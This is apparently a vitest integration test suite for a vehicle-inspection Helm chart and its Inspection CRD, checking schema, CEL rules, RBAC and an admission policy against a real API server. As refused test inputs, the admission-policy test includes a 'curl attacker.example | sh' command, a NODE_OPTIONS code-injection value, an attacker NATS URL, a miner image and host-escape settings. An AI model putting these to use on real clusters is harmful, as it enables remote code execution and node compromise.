import { execFileSync } from "node:child_process";
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PatchStrategy, setHeaderOptions } from "@kubernetes/client-node";
import { parseAllDocuments } from "yaml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GPU_JOBS, jobTemplateIn, kubeClients } from "../helpers/detection-queue.ts";
import { parseJobTemplate } from "../../operator/detection-job-scaler.ts";
import { type ControlPlane, kubeTools, startControlPlane } from "../helpers/kube-control-plane.ts";
import { until } from "../helpers/webhook-receiver.ts";

const CHART = join(import.meta.dirname, "../../charts/vehicle-inspection");
const sets = (values: string[]) => values.flatMap((v) => ["--set", v]);

/** An Inspection as the API would make it; `overrides` replace parts of its spec. */
const inspection = (name: string, spec: Record<string, unknown> = {}) =>
  JSON.stringify({
    apiVersion: "inspection.dev/v1",
    kind: "Inspection",
    metadata: { name, labels: { "inspection.dev/account": "acct_test", "inspection.dev/livemode": "false" } },
    spec: { reference: `ref-${name}`, vehicle: { vin: "1HGCM82633A004352" }, accountId: "acct_test", livemode: false, ...spec },
  });

/**
 * crds/inspections.yaml against a real kube-apiserver (with etcd, built from the Go module proxy):
 * the server accepts it as structural, stores Inspections, enforces its schema, its CEL rules and
 * its status subresource, and `kubectl get inspections` prints its columns.
 */
describe("the Inspection CRD on a real API server", () => {
  let k: ControlPlane;
  beforeAll(async () => {
    k = await startControlPlane();
    await k.installCrds();
  }, 240_000);
  afterAll(() => k?.close());

  const apply = (manifest: string) => k.kubectlResult(["create", "-f", "-"], manifest);
  const patch = (name: string, body: unknown, ...extra: string[]) =>
    k.kubectlResult(["patch", "inspection", name, "--type=merge", "-p", JSON.stringify(body), ...extra]);

  it("stores an Inspection and lists it with its printer columns, by its short name too", async () => {
    expect((await apply(inspection("insp-columns"))).code).toBe(0);
    const set = await patch(
      "insp-columns",
      { status: { phase: "completed", grade: "minor", findings: 2, review: "required" } },
      "--subresource=status",
    );
    expect(set.stderr).toBe("");
    const table = await k.kubectl("get", "insp");
    const [header, row] = table.trim().split("\n");
    expect(header!.split(/\s{2,}/)).toEqual(["NAME", "PHASE", "GRADE", "FINDINGS", "REVIEW", "VIN", "REFERENCE", "AGE"]);
    expect(row!.split(/\s{2,}/).slice(0, 7)).toEqual([
      "insp-columns",
      "completed",
      "minor",
      "2",
      "required",
      "1HGCM82633A004352",
      "ref-insp-columns",
    ]);
    console.log(`kubectl get inspections:\n${await k.kubectl("get", "inspections")}`);
    // -o wide adds who reviewed, when it completed and whose it is; the category lists it too.
    const wide = (await k.kubectl("get", "insp", "-o", "wide"))
      .trim()
      .split("\n")[0]!
      .split(/\s{2,}/);
    expect(wide.slice(-3)).toEqual(["REVIEWED-BY", "COMPLETED", "ACCOUNT"]);
    expect(await k.kubectl("get", "vehicle-inspection")).toContain("insp-columns");
    // kubectl explain has something to say.
    expect(await k.explain("inspections")).toMatch(/An inspection of a vehicle/);
    expect(await k.explain("inspections.spec.cancelRequested")).toMatch(/cannot be set back/);
  });

  it("upgrades with the chart in place: a release's CRD adds to the schema and every Inspection stays (issue 31)", async () => {
    // The CRD as a release before review policies was: without spec.review.
    const current = JSON.parse(await k.kubectl("get", "crd", "inspections.inspection.dev", "-o", "json"));
    const older = structuredClone(current);
    const version = older.spec.versions[0];
    delete version.schema.openAPIV3Schema.properties.spec.properties.review;
    version.schema.openAPIV3Schema.properties.spec["x-kubernetes-validations"] = version.schema.openAPIV3Schema.properties.spec[
      "x-kubernetes-validations"
    ].filter((r: { rule: string }) => !r.rule.includes("review"));
    delete older.metadata.resourceVersion;
    delete older.metadata.managedFields;
    delete older.status;
    expect((await k.kubectlResult(["replace", "-f", "-"], JSON.stringify(older))).code).toBe(0);
    // Nor had that release the InspectionRecord kind, which the upgrade adds.
    await k.kubectl("delete", "crd", "inspectionrecords.inspection.dev");
    expect((await apply(inspection("insp-before-upgrade"))).code).toBe(0);
    expect((await apply(inspection("insp-too-new", { review: "always" }))).code).not.toBe(0);
    // helm upgrade: the chart's CRD template, applied as Helm applies it.
    const { helm } = kubeTools();
    const rendered = execFileSync(
      helm,
      ["template", "r", CHART, "--show-only", "templates/crd.yaml", "--set", "publicUrl=https://inspect.example.com"],
      { encoding: "utf8" },
    );
    const upgraded = await k.kubectlResult(["apply", "--server-side", "--force-conflicts", "-f", "-"], rendered);
    expect(upgraded.code, upgraded.stderr).toBe(0);
    await k.kubectl(
      "wait",
      "--for=condition=Established",
      "--timeout=60s",
      "crd/inspections.inspection.dev",
      "crd/inspectionrecords.inspection.dev",
    );
    expect(await k.kubectl("get", "insp", "insp-before-upgrade", "-o", "jsonpath={.spec.reference}")).toBe("ref-insp-before-upgrade");
    expect((await apply(inspection("insp-after-upgrade", { review: "always" }))).code).toBe(0);
    for (const crd of ["inspections.inspection.dev", "inspectionrecords.inspection.dev"]) {
      const kept = JSON.parse(await k.kubectl("get", "crd", crd, "-o", "json"));
      expect(kept.metadata.annotations["helm.sh/resource-policy"], crd).toBe("keep");
    }
  });

  it("refuses a spec the schema refuses", async () => {
    const noAccount = JSON.parse(inspection("insp-bad"));
    delete noAccount.spec.accountId;
    const refused = await apply(JSON.stringify(noAccount));
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain("spec.accountId: Required value");
    const longReference = await apply(inspection("insp-long", { reference: "r".repeat(256) }));
    expect(longReference.stderr).toMatch(/spec.reference: Too long/);
    // The zod rules, as the API server holds them (issue 31): the VIN's form, and capture.steps's
    // rules, which JSON Schema says with contains and the CRD in CEL.
    const notAVin = await apply(inspection("insp-not-a-vin", { vehicle: { vin: "not-a-vin" } }));
    expect(notAVin.stderr).toMatch(/spec.vehicle.vin: Invalid value: "not-a-vin"/);
    const twice = await apply(inspection("insp-twice", { capture: { steps: [{ angle: "front" }, { angle: "front" }] } }));
    expect(twice.stderr).toContain("each angle may be a step once");
    const inside = await apply(inspection("insp-inside", { capture: { steps: [{ angle: "front", required: false }, { angle: "vin" }] } }));
    expect(inside.stderr).toContain("at least one exterior angle");
    expect((await apply(inspection("insp-steps-ok", { capture: { steps: [{ angle: "front" }, { angle: "vin" }] } }))).code).toBe(0);
  });

  it("refuses a status the schema refuses: negative findings, two conditions of one type, a time that is not one (issue 31)", async () => {
    expect((await apply(inspection("insp-bad-status"))).code).toBe(0);
    const status = (body: unknown) => patch("insp-bad-status", { status: body }, "--subresource=status");
    expect((await status({ findings: -5 })).stderr).toMatch(/status.findings: Invalid value: -5: .*greater than or equal to 0/);
    const ready = { type: "Ready", status: "True", reason: "Done", message: "", lastTransitionTime: "2026-11-27T10:00:00Z" };
    // A merge patch replaces the list whole: both conditions reach the schema.
    expect((await status({ conditions: [ready, { ...ready, status: "False" }] })).stderr).toMatch(
      /status.conditions\[1\]: Duplicate value/,
    );
    expect((await status({ completedAt: "yesterday" })).stderr).toMatch(/status.completedAt: Invalid value: "yesterday"/);
    expect((await status({ findings: 2, conditions: [ready] })).code).toBe(0);
    // kubectl explain reads the schema the API server serves: each field says what it is.
    expect(await k.explain("inspections.status.findings")).toMatch(/How many damages the report lists/);
    expect(await k.explain("inspections.status.conditions.reason")).toMatch(/CamelCase/);
    expect(await k.explain("inspections.spec.vehicle.vin")).toMatch(/17 characters/);
    // The store's own records are beside them, out of the product's category.
    expect(await k.explain("inspectionrecords")).toMatch(/not for people/);
    expect((await k.kubectl("api-resources", "--categories=vehicle-inspection", "-o", "name")).trim()).toBe("inspections.inspection.dev");
  });

  it("keeps the spec immutable but for cancelRequested, which cannot be withdrawn", async () => {
    expect((await apply(inspection("insp-cel"))).code).toBe(0);
    for (const change of [
      { vehicle: { vin: "5YJ3E1EA2KF317000" } },
      { reference: "changed" },
      { accountId: "acct_other" },
      { livemode: true },
    ]) {
      const refused = await patch("insp-cel", { spec: change });
      expect(refused.code, JSON.stringify(change)).not.toBe(0);
      expect(refused.stderr).toContain("immutable");
    }
    const added = await patch("insp-cel", { spec: { notify_url: "https://example.com/hooks" } });
    expect(added.stderr).toContain("immutable");
    expect((await patch("insp-cel", { spec: { cancelRequested: true } })).code).toBe(0);
    const withdrawn = await patch("insp-cel", { spec: { cancelRequested: false } });
    expect(withdrawn.stderr).toContain("a cancel request cannot be withdrawn");
  });

  it("writes status only through the status subresource", async () => {
    expect((await apply(inspection("insp-status"))).code).toBe(0);
    await patch("insp-status", { status: { phase: "failed" } });
    expect(await k.kubectl("get", "insp", "insp-status", "-o", "jsonpath={.status.phase}")).toBe("");
    await patch("insp-status", { status: { phase: "processing" } }, "--subresource=status");
    expect(await k.kubectl("get", "insp", "insp-status", "-o", "jsonpath={.status.phase}")).toBe("processing");
    const wrongPhase = await patch("insp-status", { status: { phase: "lost" } }, "--subresource=status");
    expect(wrongPhase.stderr).toContain('Unsupported value: "lost"');
  });

  it("takes the chart's rendered objects in a server-side dry run, in a namespace that enforces Pod Security restricted", async () => {
    await k.kubectl("create", "namespace", "vi-chart");
    await k.kubectl(
      "label",
      "namespace",
      "vi-chart",
      "pod-security.kubernetes.io/enforce=restricted",
      "pod-security.kubernetes.io/warn=restricted",
    );
    const { helm } = kubeTools();
    // With the helm test's pod, and a preStop sleep of 0 s (accepted from 1.33: the chart's kubeVersion).
    const more = [
      "detection.provider=cuda",
      "ingress.enabled=true",
      "ingress.host=inspect.example.com",
      "networkPolicy.enabled=true",
      "helmTest.apiKeySecret.name=vi-test-key",
      "shutdown.drainSeconds=0",
    ];
    for (const values of [[], more, [...GPU_JOBS, "networkPolicy.enabled=true"]]) {
      const set = ["publicUrl=https://inspect.example.com", ...values].flatMap((v) => ["--set", v]);
      const manifest = execFileSync(helm, ["template", "r", CHART, "--namespace", "vi-chart", ...set], { encoding: "utf8" });
      const dryRun = await k.kubectlResult(["apply", "--dry-run=server", "-n", "vi-chart", "-f", "-"], manifest);
      expect(dryRun.code, dryRun.stderr).toBe(0);
      // A pod spec short of `restricted` is a warning for its StatefulSet here (and a refusal for its pods).
      expect(dryRun.stderr).not.toContain("PodSecurity");
      expect(dryRun.stdout).toContain("statefulset.apps/r-vehicle-inspection created (server dry run)");
      expect(dryRun.stdout).toContain("service/r-vehicle-inspection-headless created (server dry run)");
      if (values === more) expect(dryRun.stdout).toContain("pod/r-vehicle-inspection-test-walkaround created (server dry run)");
    }
    // The detection Job template the ConfigMap carries, as the service creates it: its pods are `restricted` too.
    const template = jobTemplateIn(
      execFileSync(helm, ["template", "r", CHART, "--namespace", "vi-chart", ...sets(GPU_JOBS)], { encoding: "utf8" }),
    );
    const job = { ...template, metadata: { ...template.metadata, name: undefined, generateName: `${template.metadata!.name}-` } };
    const created = await k.kubectlResult(["create", "--dry-run=server", "-n", "vi-chart", "-f", "-"], JSON.stringify(job));
    expect(created.code, created.stderr).toBe(0);
    expect(created.stderr).not.toContain("PodSecurity");
    // The check bites: a container allowed to escalate is reported.
    const loose = ["publicUrl=https://inspect.example.com", "securityContext.allowPrivilegeEscalation=true"].flatMap((v) => ["--set", v]);
    const manifest = execFileSync(helm, ["template", "r", CHART, "--namespace", "vi-chart", ...loose], { encoding: "utf8" });
    const warned = await k.kubectlResult(["apply", "--dry-run=server", "-n", "vi-chart", "-f", "-"], manifest);
    expect(warned.stderr).toContain('would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false');
  });

  it("takes cluster mode's rendered objects in a server-side dry run, Pod Security restricted, with and without detection Jobs", async () => {
    await k.kubectl("create", "namespace", "vi-cluster");
    await k.kubectl(
      "label",
      "namespace",
      "vi-cluster",
      "pod-security.kubernetes.io/enforce=restricted",
      "pod-security.kubernetes.io/warn=restricted",
    );
    const { helm } = kubeTools();
    const cluster = ["publicUrl=https://inspect.example.com", "mode=cluster", "nats.url=nats://nats:4222", "s3.bucket=inspections"];
    for (const values of [
      [...cluster, "networkPolicy.enabled=true"],
      [...cluster, "detection.jobs.enabled=true", "helmTest.apiKeySecret.name=vi-test-key"],
    ]) {
      const manifest = execFileSync(helm, ["template", "r", CHART, "--namespace", "vi-cluster", ...sets(values)], { encoding: "utf8" });
      const dryRun = await k.kubectlResult(["apply", "--dry-run=server", "-n", "vi-cluster", "-f", "-"], manifest);
      expect(dryRun.code, dryRun.stderr).toBe(0);
      expect(dryRun.stderr).not.toContain("PodSecurity");
      for (const made of [
        "deployment.apps/r-vehicle-inspection-api",
        "deployment.apps/r-vehicle-inspection-operator",
        "poddisruptionbudget.policy/r-vehicle-inspection-api",
        "role.rbac.authorization.k8s.io/r-vehicle-inspection-operator",
      ]) {
        expect(dryRun.stdout).toContain(`${made} created (server dry run)`);
      }
      expect(dryRun.stdout).not.toContain("statefulset");
    }
  });

  it("installs and upgrades with Helm 4's server-side apply: extraEnv of a variable the chart sets in its place, a Job value rolling the pods (issue 31)", async () => {
    const { helm } = kubeTools();
    await k.kubectl("create", "namespace", "vi-apply");
    // The CRD is this file's (applied above): the release leaves it be.
    const values = (logLevel: string, gpus: number) =>
      sets([
        ...GPU_JOBS,
        "crds.install=false",
        `detection.jobs.gpus=${gpus}`,
        "extraEnv[0].name=LOG_LEVEL",
        `extraEnv[0].value=${logLevel}`,
      ]);
    const run = (...args: string[]) =>
      execFileSync(helm, [...args, "--kubeconfig", k.kubeconfig, "--namespace", "vi-apply"], { encoding: "utf8", stdio: "pipe" });
    const statefulSet = async () =>
      JSON.parse(await k.kubectl("get", "statefulset", "-n", "vi-apply", "r-vehicle-inspection", "-o", "json")).spec.template;
    const jobGpus = async () => {
      const map = JSON.parse(await k.kubectl("get", "configmap", "-n", "vi-apply", "r-vehicle-inspection-detection-job", "-o", "json"));
      return parseJobTemplate(map.data["detection-job.yaml"]).spec!.template.spec!.containers[0]!.resources!.limits!["nvidia.com/gpu"];
    };
    // The API server built from source says it is v0.0.0-master, which no kubeVersion admits: a copy
    // of the chart without it (the version is the chart test's and the dry runs' concern).
    const chart = join(mkdtempSync(join(tmpdir(), "vi-chart-")), "vehicle-inspection");
    cpSync(CHART, chart, { recursive: true });
    const meta = join(chart, "Chart.yaml");
    writeFileSync(meta, readFileSync(meta, "utf8").replace(/^kubeVersion:.*$/m, ""));
    run("install", "r", chart, "--server-side=true", ...values("debug", 1));
    const before = await statefulSet();
    expect(await jobGpus()).toBe(1);
    // An upgrade with the same names: server-side apply keys env by name and refuses a name twice.
    run("upgrade", "r", chart, "--server-side=true", ...values("warn", 2));
    const after = await statefulSet();
    const env = after.spec.containers[0].env as { name: string; value?: string }[];
    expect(env.filter((e) => e.name === "LOG_LEVEL")).toEqual([{ name: "LOG_LEVEL", value: "warn" }]);
    // The Job template's GPUs live in the ConfigMap, not the pod's env: its checksum on the pod
    // template is what rolls the pod, which then makes its Jobs from the new template.
    expect(await jobGpus()).toBe(2);
    expect(after.metadata.annotations["checksum/config"]).toMatch(/^[0-9a-f]{64}$/);
    expect(after.metadata.annotations["checksum/config"]).not.toBe(before.metadata.annotations["checksum/config"]);
    expect(JSON.parse(run("status", "r", "-o", "json")).info.status).toBe("deployed");
    run("uninstall", "r");
  });

  it("gives the service's account what detection Jobs and the Inspection resources as its store need and nothing more (checked by impersonating it)", async () => {
    const { helm } = kubeTools();
    await k.kubectl("create", "namespace", "vi-rbac");
    const manifest = execFileSync(helm, ["template", "r", CHART, "--namespace", "vi-rbac", ...sets(GPU_JOBS)], { encoding: "utf8" });
    const rbac = parseAllDocuments(manifest)
      .map((d) => d.toJS())
      .filter(
        (d) =>
          d && ["ServiceAccount", "Role", "RoleBinding", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"].includes(d.kind),
      );
    expect(rbac.map((d) => d.kind).sort()).toEqual([
      "Role",
      "RoleBinding",
      "ServiceAccount",
      "ServiceAccount",
      "ValidatingAdmissionPolicy",
      "ValidatingAdmissionPolicy",
      "ValidatingAdmissionPolicyBinding",
      "ValidatingAdmissionPolicyBinding",
    ]);
    const applied = await k.kubectlResult(
      ["apply", "-n", "vi-rbac", "-f", "-"],
      JSON.stringify({ apiVersion: "v1", kind: "List", items: rbac }),
    );
    expect(applied.code, applied.stderr).toBe(0);
    const can = async (...what: string[]) => {
      const r = await k.kubectlResult([
        "auth",
        "can-i",
        ...what,
        "-n",
        "vi-rbac",
        "--as=system:serviceaccount:vi-rbac:r-vehicle-inspection",
      ]);
      return r.stdout.trim();
    };
    expect(await can("create", "jobs.batch")).toBe("yes");
    expect(await can("patch", "jobs.batch")).toBe("yes");
    expect(await can("list", "jobs.batch")).toBe("yes");
    expect(await can("get", "statefulsets.apps/r-vehicle-inspection")).toBe("yes");
    // The Inspection resources are its store: made with their records, their status written, a
    // cancel set on the spec, the archive finalizer released (update), archived ones deleted.
    for (const resource of ["inspections.inspection.dev", "inspectionrecords.inspection.dev"]) {
      for (const verb of ["get", "list", "watch", "create", "update", "delete"]) expect(await can(verb, resource)).toBe("yes");
      expect(await can("update", resource, "--subresource=status")).toBe("yes");
    }
    // Nothing it does not use: no deletes, no pods, no secrets, no other StatefulSet, no other namespace.
    expect(await can("delete", "jobs.batch")).toBe("no");
    expect(await can("create", "pods")).toBe("no");
    expect(await can("get", "secrets")).toBe("no");
    expect(await can("get", "statefulsets.apps/another")).toBe("no");
    // Whole-object writes on the version read only (update), never a patch over what it has not read.
    expect(await can("patch", "inspections.inspection.dev")).toBe("no");
    const elsewhere = await k.kubectlResult([
      "auth",
      "can-i",
      "create",
      "jobs.batch",
      "-n",
      "default",
      "--as=system:serviceaccount:vi-rbac:r-vehicle-inspection",
    ]);
    expect(elsewhere.stdout.trim()).toBe("no");

    // RBAC lets it create any Job; the admission policy holds its Jobs to what the chart renders (issue 31).
    const template = jobTemplateIn(manifest);
    const job = (spec: Record<string, unknown> = {}) =>
      JSON.stringify({
        ...template,
        metadata: { name: `detection-${Math.random().toString(36).slice(2, 8)}`, namespace: "vi-rbac" },
        spec: { ...template.spec, template: { ...template.spec!.template, spec: { ...template.spec!.template!.spec, ...spec } } },
      });
    const asService = (body: string) =>
      k.kubectlResult(
        ["create", "--dry-run=server", "-n", "vi-rbac", "--as=system:serviceaccount:vi-rbac:r-vehicle-inspection", "-f", "-"],
        body,
      );
    const container = template.spec!.template!.spec!.containers[0]!;
    const secretMount = {
      volumes: [{ name: "stolen", secret: { secretName: "anything" } }],
      containers: [{ ...container, volumeMounts: [{ name: "stolen", mountPath: "/stolen" }] }],
    };
    // The policy takes a moment to be in force once made.
    await until(
      "the policy in force",
      async () => (await asService(job(secretMount))).stderr,
      (err) => err.includes("scratch volumes (emptyDir) only"),
      30_000,
    );
    expect((await asService(job({ serviceAccountName: "default" }))).stderr).toContain(
      "detection Jobs run as r-vehicle-inspection-detection",
    );
    expect((await asService(job({ containers: [{ ...container, image: "attacker/miner:latest" }] }))).stderr).toContain(
      "run vehicle-inspection",
    );
    // Nothing with the node's access either, whatever Pod Security level the namespace enforces: each
    // refused with what it breaks and why (the first rule it fails; securityContext as the values set it).
    const refused = async (what: string, spec: Record<string, unknown>, message: string) => {
      const r = await asService(job(spec));
      expect(r.code, what).not.toBe(0);
      expect(r.stderr, what).toContain(message);
    };
    const podSpec = template.spec!.template!.spec!;
    const withContainer = (securityContext: Record<string, unknown>, more: Record<string, unknown> = {}) => ({
      containers: [{ ...container, securityContext: { ...container.securityContext, ...securityContext }, ...more }],
    });
    const withPod = (securityContext: Record<string, unknown>) => ({ securityContext: { ...podSpec.securityContext, ...securityContext } });
    // (The API server itself refuses privileged with allowPrivilegeEscalation false: that one left out.)
    await refused(
      "privileged",
      withContainer({ privileged: true, allowPrivilegeEscalation: undefined }),
      "detection Jobs' containers are privileged only as securityContext sets (privileged unset): a privileged container has the node",
    );
    const hostNamespaces =
      "detection Jobs share none of the node's namespaces (hostNetwork, hostPID, hostIPC): they need no access to the node";
    await refused("hostNetwork", { hostNetwork: true }, hostNamespaces);
    await refused("hostPID", { hostPID: true }, hostNamespaces);
    await refused(
      "another command",
      withContainer({}, { command: ["sh", "-c", "curl -s https://attacker.example | sh"] }),
      "detection Jobs run the image's entrypoint with the args [inference] only: another command or args would run anything the image holds",
    );
    // Node reads options from the environment: --import of a data: URL runs any code as the entrypoint.
    const envRule = "detection Jobs' containers have the environment the chart renders and no other";
    await refused(
      "NODE_OPTIONS",
      withContainer({}, { env: [...container.env!, { name: "NODE_OPTIONS", value: "--import=data:text/javascript,process.exit(3)" }] }),
      envRule,
    );
    await refused(
      "another NATS",
      withContainer({}, { env: container.env!.map((e) => (e.name === "NATS_URL" ? { ...e, value: "nats://attacker.example:4222" } : e)) }),
      envRule,
    );
    await refused(
      "an init container",
      { initContainers: [{ name: "setup", image: container.image, command: ["sh", "-c", "id"] }] },
      "detection Jobs run one container, inference, and no init or ephemeral containers",
    );
    const asChartUser = "detection Jobs run as podSecurityContext's user (runAsNonRoot true, runAsUser 1000, runAsGroup 1000)";
    await refused("runAsNonRoot false", withPod({ runAsNonRoot: false }), asChartUser);
    await refused("a root runAsUser on the container", withContainer({ runAsUser: 0 }), asChartUser);
    await refused(
      "allowPrivilegeEscalation true",
      withContainer({ allowPrivilegeEscalation: true }),
      "detection Jobs' containers set allowPrivilegeEscalation as securityContext does (allowPrivilegeEscalation false)",
    );
    await refused(
      "an added capability",
      withContainer({ capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] } }),
      "detection Jobs' containers have the capabilities securityContext sets (capabilities.drop [ALL]) and no other",
    );
    await refused(
      "seccomp unconfined",
      withPod({ seccompProfile: { type: "Unconfined" } }),
      "detection Jobs keep the confinement podSecurityContext (seccompProfile.type RuntimeDefault) and securityContext (readOnlyRootFilesystem true) set",
    );
    await refused(
      "a hostPath volume",
      {
        volumes: [{ name: "root", hostPath: { path: "/" } }],
        ...withContainer({}, { volumeMounts: [{ name: "root", mountPath: "/host" }] }),
      },
      "detection Jobs mount scratch volumes (emptyDir) only",
    );
    const rendered = await asService(job());
    expect(rendered.code, rendered.stderr).toBe(0);

    // The service's own writes pass, as its client makes them: its create from the template (the
    // scaler's), and its raise, a merge patch of parallelism, also on a Job an older release made with
    // another image: an update that leaves the pod template as it was admitted is not checked again.
    const config = JSON.parse(readFileSync(k.kubeconfig, "utf8"));
    for (const u of config.users) u.user.as = "system:serviceaccount:vi-rbac:r-vehicle-inspection";
    const impersonating = join(mkdtempSync(join(tmpdir(), "vi-as-")), "kubeconfig");
    writeFileSync(impersonating, JSON.stringify(config));
    const kube = kubeClients(impersonating, "vi-rbac");
    const scaler = kube.scaler(template, async () => 2, { minParallelism: 0, maxParallelism: 4, inspectionsPerPod: 1 });
    expect(await scaler.reconcile()).toEqual({ action: "create", parallelism: 2 });
    const [made] = JSON.parse(await k.kubectl("get", "jobs", "-n", "vi-rbac", "-o", "json")).items;
    const raise = (name: string) =>
      kube.batch.patchNamespacedJob(
        { name, namespace: "vi-rbac", body: { spec: { parallelism: 3 } } },
        setHeaderOptions("Content-Type", PatchStrategy.MergePatch),
      );
    expect((await raise(made.metadata.name)).spec!.parallelism).toBe(3);
    const older = {
      ...template,
      metadata: { name: "older", namespace: "vi-rbac", labels: template.metadata!.labels },
      spec: {
        ...template.spec,
        suspend: true,
        template: { ...template.spec!.template, spec: { ...podSpec, containers: [{ ...container, image: "vehicle-inspection:0.0.9" }] } },
      },
    };
    const olderMade = await k.kubectlResult(["create", "-f", "-"], JSON.stringify(older));
    expect(olderMade.code, olderMade.stderr).toBe(0);
    expect((await raise("older")).spec!.parallelism).toBe(3);
    // A change to its pod template is checked: that Job's image is not the chart's.
    const retemplated = await k.kubectlResult(
      [
        "apply",
        "--server-side",
        "--force-conflicts",
        "--dry-run=server",
        "--as=system:serviceaccount:vi-rbac:r-vehicle-inspection",
        "-f",
        "-",
      ],
      JSON.stringify({
        apiVersion: "batch/v1",
        kind: "Job",
        metadata: { name: "older", namespace: "vi-rbac" },
        spec: { template: { spec: { nodeSelector: { "kubernetes.io/hostname": "chosen" } } } },
      }),
    );
    expect(retemplated.stderr).toContain("detection Jobs run vehicle-inspection");
    // A person with the rights to do so is not held to it: the policy binds the service's account only.
    const admin = await k.kubectlResult(["create", "--dry-run=server", "-n", "vi-rbac", "-f", "-"], job({ serviceAccountName: "default" }));
    expect(admin.code, admin.stderr).toBe(0);
  });

  it("refuses kubectl delete namespace while the release keeps its Inspections there, saying how to tear down (issue 31)", async () => {
    const { helm } = kubeTools();
    await k.kubectl("create", "namespace", "vi-keep");
    const manifest = execFileSync(
      helm,
      ["template", "r", CHART, "--namespace", "vi-keep", "--set", "publicUrl=https://inspect.example.com"],
      {
        encoding: "utf8",
      },
    );
    const policy = parseAllDocuments(manifest)
      .map((d) => d.toJS())
      .filter((d) => d && ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"].includes(d.kind));
    expect(policy.map((d) => d.metadata.name)).toEqual([
      "r-vehicle-inspection-vi-keep-keep-namespace",
      "r-vehicle-inspection-vi-keep-keep-namespace",
    ]);
    const applied = await k.kubectlResult(["apply", "-f", "-"], JSON.stringify({ apiVersion: "v1", kind: "List", items: policy }));
    expect(applied.code, applied.stderr).toBe(0);
    // A policy takes a moment to reach the API server's admission: until it refuses, the delete would go through.
    await k.kubectl("create", "namespace", "vi-other");
    const refused = await until(
      "the namespace delete refused",
      () => k.kubectlResult(["delete", "namespace", "vi-keep", "--dry-run=server"]),
      (r) => r.code !== 0,
      30_000,
    );
    expect(refused.stderr).toContain("namespace vi-keep holds the Inspections of the vehicle inspection release r");
    expect(refused.stderr).toContain("kubectl delete inspections --all -n vi-keep");
    // Another namespace is not the policy's.
    expect((await k.kubectlResult(["delete", "namespace", "vi-other", "--wait=false"])).code).toBe(0);
    // Told so, it goes.
    await k.kubectl("annotate", "namespace", "vi-keep", "inspection.dev/allow-delete=true");
    const gone = await k.kubectlResult(["delete", "namespace", "vi-keep", "--wait=false"]);
    expect(gone.code, gone.stderr).toBe(0);
  }, 180_000);
});
